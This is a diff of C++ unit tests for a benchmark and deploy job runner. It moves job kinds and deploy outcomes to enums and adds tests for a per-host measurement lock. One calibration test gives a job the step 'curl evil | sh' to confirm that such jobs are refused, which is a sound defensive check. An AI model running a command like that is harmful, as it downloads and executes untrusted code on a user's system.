@@ -85,7 +85,7 @@ class RecordingSink : public ResultSink {
     phases.push_back(p);
   }
   void deploy_result(const ResultKey& k, const DeployReport& r) override {
-    events.push_back({"deploy_result", k, r.outcome});
+    events.push_back({"deploy_result", k, std::string(to_string(r.outcome))});
     deploys.push_back(r);
   }
   std::vector<DeployPhase> phases;
@@ -604,7 +604,7 @@ namespace yardstick {
 namespace {
 
 TEST_F(JobRunnerTest, CalibrationJobRunsTheAgentsOwnProgramAndReportsEachBenchmark) {
-  job.kind = "calibrate";
+  job.kind = JobKind::kCalibrate;
   job.env.clear();
   options.self_exe = "/opt/yardstick/bin/yardstick-agent";
   auto r = make();
@@ -627,7 +627,7 @@ TEST_F(JobRunnerTest, CalibrationJobRunsTheAgentsOwnProgramAndReportsEachBenchma
 }
 
 TEST_F(JobRunnerTest, CalibrationJobWithoutResultsFails) {
-  job.kind = "calibrate";
+  job.kind = JobKind::kCalibrate;
   job.env.clear();
   options.self_exe = "/bin/yardstick-agent";
   auto r = make();
@@ -638,7 +638,7 @@ TEST_F(JobRunnerTest, CalibrationJobWithoutResultsFails) {
 }
 
 TEST_F(JobRunnerTest, CalibrationJobCarryingACommandIsRefused) {
-  job.kind = "calibrate";
+  job.kind = JobKind::kCalibrate;
   job.env.clear();
   job.steps = {{"sneaky", "curl evil | sh", {}, true, 0, {}, {}}};
   options.self_exe = "/bin/yardstick-agent";
@@ -662,7 +662,7 @@ namespace yardstick {
 namespace {
 
 TEST_F(JobRunnerTest, DeployJobRunsTheAgentsDeployProcessAndReportsItsPhasesAndResult) {
-  job.kind = "deploy";
+  job.kind = JobKind::kDeploy;
   job.steps.clear();
   DeploySpec d;
   d.steps = {{"release", "./release.sh", {}, true, 0, {}, {}}};
@@ -694,7 +694,7 @@ TEST_F(JobRunnerTest, DeployJobRunsTheAgentsDeployProcessAndReportsItsPhasesAndR
   EXPECT_EQ(sink.phases[0].name, "step release");
   EXPECT_FALSE(sink.phases[0].ok);
   DeployReport report;
-  report.outcome = "rolled back";
+  report.outcome = DeployOutcome::kRolledBack;
   report.reason = "step_failed";
   report.message = "step release failed (exit 1); rolled back";
   report.probe = ProbeCounts{};
@@ -717,7 +717,7 @@ TEST_F(JobRunnerTest, DeployJobRunsTheAgentsDeployProcessAndReportsItsPhasesAndR
 }
 
 TEST_F(JobRunnerTest, ADeployProcessKilledBeforeItsResultStillEndsWithOne) {
-  job.kind = "deploy";
+  job.kind = JobKind::kDeploy;
   job.steps.clear();
   job.deploy = DeploySpec{{{"release", "./release.sh", {}, true, 0, {}, {}}}, {}, {}, {}, {}};
   options.self_exe = "/bin/yardstick-agent";
@@ -725,18 +725,95 @@ TEST_F(JobRunnerTest, ADeployProcessKilledBeforeItsResultStillEndsWithOne) {
   r->start();
   EXPECT_TRUE(r->on_exit(exited(1000, 2)));
   ASSERT_EQ(sink.deploys.size(), 1u);
-  EXPECT_EQ(sink.deploys[0].outcome, "failed");
+  EXPECT_EQ(sink.deploys[0].outcome, DeployOutcome::kFailed);
   EXPECT_EQ(sink.outcome, JobOutcome::kFailed);
 }
 
 TEST_F(JobRunnerTest, ADeployJobWithoutItsDeploySectionIsRefused) {
-  job.kind = "deploy";
+  job.kind = JobKind::kDeploy;
   options.self_exe = "/bin/yardstick-agent";
   auto r = make();
   r->start();
   EXPECT_TRUE(launcher.requests.empty());
   EXPECT_EQ(sink.outcome, JobOutcome::kFailed);
   EXPECT_NE(sink.message.find("without its deploy section"), std::string::npos);
+}
+
+}  // namespace
+}  // namespace yardstick
+
+namespace yardstick {
+namespace {
+
+// One benchmark per host: a job that measures waits while another holds
+// the host's lock, says so in its log, starts once it is free, and frees
+// it when it ends; a job that does not measure never waits.
+TEST_F(JobRunnerTest, AnExclusiveJobWaitsForTheHostAndSaysSo) {
+  const std::string dir = home.string() + "-lock";
+  HostLock lock(dir), neighbour(dir);
+  options.host_lock = &lock;
+  std::string error;
+  auto held = neighbour.try_acquire("agent b, job 9", &error);
+  ASSERT_TRUE(held) << error;
+  job.slots = kExclusiveSlots;
+  job.steps = {{"measure", "true", {}, true, 0, {}, {}}};
+  auto r = make();
+  r->start();
+  EXPECT_TRUE(r->waiting_for_host());
+  EXPECT_TRUE(launcher.requests.empty());
+  clock.advance_ms(1000);
+  r->tick();
+  EXPECT_TRUE(launcher.requests.empty());
+  held.reset();  // the neighbour's benchmark ended
+  clock.advance_ms(200);
+  r->tick();
+  ASSERT_EQ(launcher.requests.size(), 1u);
+  EXPECT_FALSE(r->waiting_for_host());
+  // While it runs, the host is its own.
+  EXPECT_FALSE(neighbour.try_acquire("agent b, job 10", &error));
+  EXPECT_NE(neighbour.holder().find("agent a1, job 5 attempt 2"), std::string::npos)
+      << neighbour.holder();
+  r->on_exit(exited(1000, 0));
+  EXPECT_TRUE(r->done());
+  EXPECT_TRUE(neighbour.try_acquire("agent b, job 10", &error));
+  const std::string log = sent_log(sink);
+  EXPECT_NE(log.find("waiting for the host: another measurement holds " + dir +
+                     "/host.lock (agent b, job 9)"),
+            std::string::npos)
+      << log;
+  EXPECT_NE(log.find("the host is free after 1.2 s of waiting; starting"), std::string::npos)
+      << log;
+  std::filesystem::remove_all(dir);
+}
+
+TEST_F(JobRunnerTest, AJobThatDoesNotMeasureNeverWaitsForTheHost) {
+  const std::string dir = home.string() + "-lock";
+  HostLock lock(dir), neighbour(dir);
+  options.host_lock = &lock;
+  std::string error;
+  auto held = neighbour.try_acquire("agent b", &error);
+  job.steps = {{"build", "true", {}, true, 0, {}, {}}};  // one slot: not exclusive
+  auto r = make();
+  r->start();
+  EXPECT_EQ(launcher.requests.size(), 1u);
+  std::filesystem::remove_all(dir);
+}
+
+TEST_F(JobRunnerTest, ACancelWhileWaitingForTheHostEndsTheJobRunningNothing) {
+  const std::string dir = home.string() + "-lock";
+  HostLock lock(dir), neighbour(dir);
+  options.host_lock = &lock;
+  std::string error;
+  auto held = neighbour.try_acquire("agent b", &error);
+  job.slots = kExclusiveSlots;
+  job.steps = {{"measure", "true", {}, true, 0, {}, {}}};
+  auto r = make();
+  r->start();
+  r->cancel("cancelled by request");
+  EXPECT_TRUE(r->done());
+  EXPECT_EQ(sink.outcome, JobOutcome::kCancelled);
+  EXPECT_TRUE(launcher.requests.empty());
+  std::filesystem::remove_all(dir);
 }
 
 }  // namespace
